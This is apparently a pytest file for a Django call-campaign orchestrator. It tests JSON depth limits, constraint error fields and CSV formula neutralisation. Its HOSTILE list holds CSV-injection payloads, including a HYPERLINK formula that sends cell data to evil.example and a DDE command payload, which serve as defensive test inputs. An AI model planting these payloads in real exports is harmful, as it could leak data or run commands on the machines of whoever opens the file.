"""The API plumbing of orchestrator/: the JSON parser's limits, constraint errors named by field, and the
one CSV writer's formula neutralisation."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.db.models import CheckConstraint, UniqueConstraint
from django.utils import timezone

from orchestrator.errors import CONSTRAINT_FIELDS, InvalidInput, constraint_field, full_clean_or_raise
from orchestrator.exports import csv_lines, neutralise_cell
from orchestrator.parsers import MAX_JSON_DEPTH, json_depth_exceeds, unstorable_text_at
from tenants.models import Tenant
from tests.campaigns.factories import make_campaign, make_tenant

# ---------------------------------------------------------------------------------------------- parser


def test_depth_is_counted_without_recursion_and_brackets_in_strings_do_not_count():
    assert not json_depth_exceeds("[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH)
    assert json_depth_exceeds("[" * (MAX_JSON_DEPTH + 1) + "]" * (MAX_JSON_DEPTH + 1))
    assert json_depth_exceeds("[" * 100_000)  # far past any recursion limit: still just a scan
    assert not json_depth_exceeds('{"a": "' + "[{" * 1000 + '"}')
    assert not json_depth_exceeds('["\\"[[[[", {"k": "]]]"}]')
    assert json_depth_exceeds('{"a": ' * 33 + "1" + "}" * 33)


def test_unstorable_text_is_found_anywhere_and_named_by_its_top_level_field():
    assert unstorable_text_at({"a": "fine", "b": [{"c": "x\x00"}]}) == "b"
    assert unstorable_text_at({"a": {"k\ud800": 1}}) == "a"
    assert unstorable_text_at(["\udfff"]) == ""
    assert unstorable_text_at({"ok": ["é", "名前", "😀"]}) is None


# ----------------------------------------------------------------------------------------- constraints


def test_every_multi_field_check_constraint_names_a_field():
    """A new check over several fields must say which field it is about (orchestrator.errors)."""
    for model in apps.get_models():
        for constraint in model._meta.constraints:
            if isinstance(constraint, CheckConstraint):
                fields = constraint.condition.referenced_base_fields  # type: ignore[union-attr]
                if len(fields) > 1:
                    assert constraint.name in CONSTRAINT_FIELDS, constraint.name
                    assert CONSTRAINT_FIELDS[constraint.name][0] != "__all__"
            if isinstance(constraint, UniqueConstraint) and constraint.fields:
                assert constraint_field(constraint) in constraint.fields


@pytest.mark.django_db
def test_a_constraint_violation_names_its_field():
    campaign = make_campaign(make_tenant())
    campaign.starts_at = timezone.now()
    campaign.ends_at = campaign.starts_at
    with pytest.raises(InvalidInput) as error:
        full_clean_or_raise(campaign)
    assert (error.value.field, error.value.message) == ("ends_at", "must be after starts_at")

    tenant = Tenant(name="T", slug="t-reserve", max_concurrent_calls=2, inbound_reserve=2)
    with pytest.raises(InvalidInput) as error:
        full_clean_or_raise(tenant)
    assert error.value.field == "inbound_reserve"

    tenant.inbound_reserve = 0
    tenant.calls_per_second = 0
    with pytest.raises(InvalidInput) as error:
        full_clean_or_raise(tenant)
    assert error.value.field == "calls_per_second"


# --------------------------------------------------------------------------------------------- exports

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=",
    "-",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_neutralised_with_a_leading_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["+15550200001", "+14155550100", "-5", "42", "3.5", "-0.25", "Ann", "a=b", "", "名前", "1+1"]
)
def test_plain_numbers_and_text_are_left_exact(cell):
    assert neutralise_cell(cell) == cell


def test_csv_lines_neutralise_every_cell_and_read_back_exactly_otherwise():
    text = "".join(csv_lines(["name", "=header"], [[HOSTILE[0], "+15550200001"], [None, timezone.now()]]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["name", "'=header"]
    assert rows[1] == ["'" + HOSTILE[0], "+15550200001"]
    assert rows[2][0] == "" and re.match(r"\d{4}-\d\d-\d\dT", rows[2][1])


def test_no_csv_is_written_anywhere_but_through_the_one_writer():
    """Every export neutralises formulas because every CSV goes through orchestrator/exports.py."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for package in root.iterdir()
        if (package / "__init__.py").exists() and package.name != "tests"
        for path in package.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
        and path.relative_to(root) != Path("orchestrator/exports.py")
    ]
    assert offenders == []
